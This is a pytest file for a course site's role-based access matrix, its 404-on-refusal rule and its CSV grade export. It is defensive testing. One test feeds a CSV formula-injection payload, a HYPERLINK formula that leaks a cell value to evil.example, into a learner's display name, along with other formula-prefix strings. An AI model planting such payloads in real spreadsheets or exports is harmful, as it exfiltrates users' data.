"""Who may do what on a course (issue 9): every instructor page, export, regrade and
preview checks the user's role on that course; site staff alone opens only the admin.
Anyone without the right role gets 404, never 403, so a course's existence does not leak."""

from __future__ import annotations

import pytest

from courses.access import PERMISSIONS, Action, can, course_role
from courses.models import CourseStaff, Enrollment
from grading.models import Submission
from grading.views import csv_cell
from tests.factories import CourseFactory, UserFactory
from tests.grading.test_regrade import attempt

ROLES = ["instructor", "ta", "auditor", "superuser", "site_staff", "other_course_instructor", "learner", "anonymous"]


@pytest.fixture
def people(tiny_lab, learner):
    course = tiny_lab.course
    other = CourseFactory(slug="other-course")
    people = {
        "instructor": UserFactory(email="inst@example.com"),
        "ta": UserFactory(email="ta@example.com"),
        "auditor": UserFactory(email="auditor@example.com"),
        "superuser": UserFactory(email="root@example.com", is_staff=True, is_superuser=True),
        "site_staff": UserFactory(email="ops@example.com", is_staff=True),
        "other_course_instructor": UserFactory(email="elsewhere@example.com"),
        "learner": UserFactory(email="classmate@example.com"),
        "anonymous": None,
    }
    for role in ("instructor", "ta", "auditor"):
        CourseStaff.objects.create(user=people[role], course=course, role=role)
    CourseStaff.objects.create(user=people["other_course_instructor"], course=other, role="instructor")
    Enrollment.objects.create(user=people["learner"], course=course)
    Enrollment.objects.create(user=learner, course=course)
    return people


@pytest.fixture
def submission(tiny_lab, learner):
    return attempt(learner, tiny_lab)


def _as(client, people, role):
    if people[role] is not None:
        client.force_login(people[role])
    return client


# The matrix of courses/access.py as a user meets it: (who, may they) for each action.
ALLOWED = {
    Action.PREVIEW: {"instructor", "ta", "auditor", "superuser"},
    Action.VIEW_SUBMISSIONS: {"instructor", "ta", "auditor", "superuser"},
    Action.REGRADE: {"instructor", "ta", "superuser"},
    Action.REGRADE_PREVIEW: {"instructor", "ta", "superuser"},
    Action.REGRADE_APPLY: {"instructor", "superuser"},
    Action.EXPORT_GRADES: {"instructor", "ta", "superuser"},
    Action.MANAGE_STAFF: {"instructor", "superuser"},
}


def test_can_answers_the_documented_matrix(people, tiny_lab):
    answers = {role: {action for action in Action if can(people[role], tiny_lab.course, action)} for role in ROLES}
    assert answers == {role: {action for action, allowed in ALLOWED.items() if role in allowed} for role in ROLES}


def test_course_role_is_the_role_on_that_course_only(people, tiny_lab):
    other = CourseFactory(slug="third")
    assert course_role(people["ta"], tiny_lab.course) == "ta"
    assert course_role(people["ta"], other) is None
    assert course_role(people["superuser"], other) == "instructor"
    assert course_role(people["site_staff"], tiny_lab.course) is None
    assert set(PERMISSIONS) == set(CourseStaff.Role.values)


VIEWS = {
    # name: (method, url (with {pk}), action that opens it)
    "lab submissions": ("get", "/instructor/labs/tiny-course/tiny/submissions/", Action.VIEW_SUBMISSIONS),
    "submission page": ("get", "/submissions/{pk}/", Action.VIEW_SUBMISSIONS),
    "submission status": ("get", "/submissions/{pk}/status/", Action.VIEW_SUBMISSIONS),
    "regrade one": ("post", "/submissions/{pk}/regrade/", Action.REGRADE),
    "regrade all": ("post", "/instructor/labs/tiny-course/tiny/regrade/", Action.REGRADE),
    "grades csv": ("get", "/instructor/courses/tiny-course/grades.csv", Action.EXPORT_GRADES),
    "staff page": ("get", "/instructor/courses/tiny-course/staff/", Action.MANAGE_STAFF),
}


def _expected(role: str, view: str) -> int | str:
    action = VIEWS[view][2]
    if role in ALLOWED[action]:
        return "allowed"
    if role == "anonymous" and view not in ("submission page", "submission status"):
        return "log in"
    return 404


def _outcome(response) -> int | str:
    if response.status_code == 200:
        return "allowed"
    if response.status_code == 302:  # the regrades go back to a page; the log-in is a refusal
        return "log in" if response["Location"].startswith("/accounts/login/") else "allowed"
    return response.status_code


@pytest.mark.parametrize("published", [True, False], ids=["published", "unpublished"])
@pytest.mark.parametrize("view", list(VIEWS))
def test_each_role_against_each_instructor_view(client, people, submission, tiny_lab, view, published):
    tiny_lab.course.published = published
    tiny_lab.course.save()
    method, url, _ = VIEWS[view]
    outcomes = {}
    for role in ROLES:
        client.logout()
        response = getattr(_as(client, people, role), method)(url.format(pk=submission.pk))
        outcomes[role] = _outcome(response)
    assert outcomes == {role: _expected(role, view) for role in ROLES}


def test_a_refused_regrade_changes_nothing(client, people, submission):
    before = Submission.objects.values().get(pk=submission.pk)
    for role in ("auditor", "site_staff", "learner", "other_course_instructor"):
        client.force_login(people[role])
        client.post(f"/submissions/{submission.pk}/regrade/")
        client.post("/instructor/labs/tiny-course/tiny/regrade/")
    assert Submission.objects.values().get(pk=submission.pk) == before


def test_a_learner_still_sees_their_own_submission_but_cannot_regrade_it(learner_client, people, submission):
    assert learner_client.get(f"/submissions/{submission.pk}/").status_code == 200
    assert learner_client.post(f"/submissions/{submission.pk}/regrade/").status_code == 404


def test_the_submission_page_shows_staff_details_by_role(client, people, submission):
    client.force_login(people["auditor"])
    page = client.get(f"/submissions/{submission.pk}/").content.decode()
    assert "by learner@example.com" in page and "Regrade" not in page
    client.force_login(people["ta"])
    page = client.get(f"/submissions/{submission.pk}/").content.decode()
    assert "by learner@example.com" in page and "Regrade" in page


def test_the_lab_submissions_page_offers_only_what_the_role_may_do(client, people, submission):
    client.force_login(people["auditor"])
    page = client.get("/instructor/labs/tiny-course/tiny/submissions/").content.decode()
    assert "learner@example.com" in page
    assert "Regrade all" not in page and "grades.csv" not in page
    client.force_login(people["instructor"])
    page = client.get("/instructor/labs/tiny-course/tiny/submissions/").content.decode()
    assert "Regrade all" in page and "grades.csv" in page


def test_the_lab_page_links_the_instructor_view_for_course_staff_only(client, people, tiny_lab):
    client.force_login(people["auditor"])
    assert "Instructor view" in client.get("/labs/tiny-course/tiny/").content.decode()
    client.force_login(people["learner"])
    assert "Instructor view" not in client.get("/labs/tiny-course/tiny/").content.decode()


def test_unpublished_content_is_previewed_by_the_course_s_staff_only(client, people, tiny_lab):
    course = tiny_lab.course
    course.published = False
    course.save()
    tiny_lab.published = False
    tiny_lab.save()
    course.modules.update(published=False)
    pages = ["/courses/tiny-course/", "/courses/tiny-course/basics/", "/courses/tiny-course/basics/intro/"]
    pages.append("/labs/tiny-course/tiny/")
    seen = {}
    for role in ROLES:
        client.logout()
        client = _as(client, people, role)
        seen[role] = ([client.get(url).status_code for url in pages], "Tiny course" in client.get("/").content.decode())
    assert seen == {
        role: ([200] * 4, True) if role in ALLOWED[Action.PREVIEW] else ([404] * 4, False) for role in ROLES
    }


def test_grades_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, people, tiny_lab, learner):
    import csv
    import io

    names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+2", "\r=1+2"]
    attempt(learner, tiny_lab)
    client.force_login(people["ta"])
    for name in names:
        learner.display_name = name
        learner.save()
        body = client.get("/instructor/courses/tiny-course/grades.csv").content.decode()
        row = next(row for row in csv.reader(io.StringIO(body)) if row[0] == "learner@example.com")
        # The name is made text (a display name loses surrounding blanks); numbers stay numbers.
        assert row[1:3] == ["'" + name.strip(), "40.0"]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("ada@example.com", "ada@example.com"),
        ("", ""),
    ],
)
def test_csv_cell_neutralises_formula_prefixes_only(cell, written):
    assert csv_cell(cell) == written
